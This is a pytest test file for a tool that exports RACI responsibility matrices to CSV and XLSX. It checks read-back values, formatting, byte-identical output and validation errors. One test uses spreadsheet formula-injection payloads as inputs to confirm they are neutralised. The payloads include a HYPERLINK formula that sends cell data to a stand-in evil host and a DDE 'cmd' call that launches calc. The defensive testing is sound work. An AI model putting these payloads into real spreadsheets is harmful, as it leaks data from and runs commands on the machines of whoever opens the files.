"""`roledocs raci --to csv|xlsx`: values read back, formula guards, determinism, and the letter rules blocking output."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from tests.team.support import activity, catalogue_copy, team, write_team



@pytest.fixture
def root(tmp_path):
    return catalogue_copy(tmp_path)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_reads_back(cli, root, isolated):
    run = cli("raci", root / "teams" / "small.yaml", "--to", "csv", "-o", "out")
    assert run.code == 0, run.err
    rows = read_csv((isolated / "out" / "small.csv").read_text(encoding="utf-8"))
    assert rows == [
        ["Phase", "Activity", "Team Lead", "Developer", "Operator", "Customer"],
        ["Plan", "Plan the quarter", "AR", "C", "C", "I"],
        ["Plan", "Estimate the work", "A", "R", "", ""],
        ["Build", "Build the features", "A", "R", "I", ""],
        ["", "Accept the release", "C", "R", "R", "A"],
    ]


def test_csv_to_stdout(cli, root):
    run = cli("raci", root / "teams" / "small.yaml", "--to", "csv", "-o", "-")
    assert run.code == 0 and read_csv(run.out)[1][1] == "Plan the quarter"


def test_xlsx_reads_back_with_frozen_panes_fills_and_legend(cli, root, isolated):
    assert cli("raci", root / "teams" / "small.yaml", "--to", "xlsx", "-o", "out").code == 0
    book = openpyxl.load_workbook(isolated / "out" / "small.xlsx")
    assert book.sheetnames == ["RACI", "Legend"]
    sheet = book["RACI"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["Phase", "Activity", "Team Lead", "Developer", "Operator", "Customer"]
    assert values[1] == ["Plan", "Plan the quarter", "AR", "C", "C", "I"]
    assert values[4] == [None, "Accept the release", "C", "R", "R", "A"]
    assert sheet.freeze_panes == "C2"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["C"].width
    fills = {sheet.cell(row=r, column=c).value: sheet.cell(row=r, column=c).fill.start_color.rgb
             for r in range(2, 6) for c in range(3, 7) if sheet.cell(row=r, column=c).value}
    assert len({fills["A"], fills["R"], fills["C"], fills["I"]}) == 4  # one colour per letter
    assert fills["AR"] == fills["A"]  # the strongest letter colours a combined cell
    legend = [[cell.value for cell in row] for row in book["Legend"].iter_rows()]
    assert [row[:2] for row in legend] == [["Letter", "Name"], ["R", "Responsible"], ["A", "Accountable"],
                                            ["C", "Consulted"], ["I", "Informed"]]


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "@SUM(A1:A9)", "-2+3", "=1+1"]


def test_formula_injection_is_neutralised(cli, root, isolated):
    rows = [activity(f"x{n}", {"team-lead": "A", "developer": "R"}, name=name, phase="=cmd|' /C calc'!A0")
            for n, name in enumerate(HOSTILE)]
    path = write_team(root, team(rows, parties=[{"id": "evil", "name": "=EVIL()"}]))
    assert cli("raci", path, "--to", "csv", "-o", "out").code == 0
    assert cli("raci", path, "--to", "xlsx", "-o", "out").code == 0
    table = read_csv((isolated / "out" / "probe.csv").read_text(encoding="utf-8"))
    assert table[0][-1] == "'=EVIL()"
    assert [line[1] for line in table[1:]] == ["'" + name for name in HOSTILE]
    assert all(line[0] == "'=cmd|' /C calc'!A0" for line in table[1:])

    book = openpyxl.load_workbook(isolated / "out" / "probe.xlsx")
    sheet = book["RACI"]
    for number, name in enumerate(HOSTILE, 2):
        cell = sheet.cell(row=number, column=2)
        assert cell.value == name and cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(isolated / "out" / "probe.xlsx") as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere


def test_a_control_character_is_refused_before_any_output(cli, root, isolated):
    """A YAML escape ("\x01") in an activity name once crashed the XLSX output (exit 3, IllegalCharacterError):
    no document can show it, so reading the file refuses it."""
    path = write_team(root, team([activity("plan", {"team-lead": "AR", "developer": "R", "operator": "R"},
                                           name="Plan\x01 the work")]))
    run = cli("raci", path, "--to", "xlsx", "-o", "out")
    assert run.code == 1 and "yaml-control-character" in run.err and "\\x01" in run.err, run.err
    assert not (isolated / "out").exists()


def test_xlsx_is_byte_identical_twice(cli, root, isolated):
    for folder in ("one", "two"):
        assert cli("raci", root / "teams" / "small.yaml", "--to", "xlsx", "-o", folder).code == 0
    assert (isolated / "one" / "small.xlsx").read_bytes() == (isolated / "two" / "small.xlsx").read_bytes()


@pytest.mark.parametrize("rows, rule", [
    ([activity("none", {"developer": "R"})], "raci-one-accountable"),
    ([activity("two", {"team-lead": "A", "customer": "A", "developer": "R"})], "raci-one-accountable"),
    ([activity("idle-work", {"team-lead": "A", "developer": "C"})], "raci-responsible"),
    ([activity("stranger", {"team-lead": "AR", "nobody": "C"})], "raci-unknown-key"),
])
def test_letter_errors_block_every_output(cli, root, isolated, rows, rule):
    path = write_team(root, team(rows))
    for fmt in ("csv", "xlsx"):
        run = cli("raci", path, "--to", fmt, "-o", "out")
        assert run.code == 1 and rule in run.err and f"{path}:" in run.err
    assert not (isolated / "out").exists()


@pytest.mark.parametrize("rows, rule", [
    ([activity("plan", {"team-lead": "AR", "developer": "CI", "operator": "R"})], "raci-consulted-informed"),
    ([activity("plan", {"team-lead": "AR", "developer": "R"})], "raci-idle-role"),
])
def test_letter_warnings_do_not_block(cli, root, isolated, rows, rule):
    path = write_team(root, team(rows))
    assert cli("validate", path).out.count(rule) == 1  # the rule fires ...
    run = cli("raci", path, "--to", "csv", "-o", "out")
    assert run.code == 0 and (isolated / "out" / "probe.csv").is_file()  # ... and the matrix is still written


def test_usage_errors(cli, root):
    small = root / "teams" / "small.yaml"
    assert cli("raci", small).code == 2  # --to is required
    assert cli("raci", small, "--to", "docx").code == 2
    run = cli("raci", small, "--to", "xlsx", "-o", "-")
    assert run.code == 2 and "binary" in run.err
    assert cli("raci", root / "teams" / "absent.yaml", "--to", "csv").code == 2


def test_raci_and_charter_written_to_one_folder_keep_apart(cli, root, isolated):
    """Spreadsheets are named `<team-id>.<ext>` like every document; in the charter's own formats the matrix is
    `<team-id>-raci.<ext>`, so writing both to one folder replaces neither."""
    from roledocs.output.names import CHARTER_EXTENSIONS
    from roledocs.rendering.formats import FORMATS, formats_of

    assert set(CHARTER_EXTENSIONS) == {FORMATS[("charter", name)].extension for name in formats_of("charter")}
    team_file = root / "teams" / "small.yaml"
    for fmt in ("csv", "xlsx", "md", "html"):
        assert cli("raci", team_file, "--to", fmt, "-o", "out").code == 0
    for fmt in ("md", "html"):
        assert cli("charter", team_file, "--to", fmt, "-o", "out").code == 0
    assert sorted(p.name for p in (isolated / "out").iterdir()) == [
        "small-raci.html", "small-raci.md", "small.csv", "small.html", "small.md", "small.xlsx"]
    assert "## Mission" in (isolated / "out" / "small.md").read_text(encoding="utf-8")
    assert "## Mission" not in (isolated / "out" / "small-raci.md").read_text(encoding="utf-8")
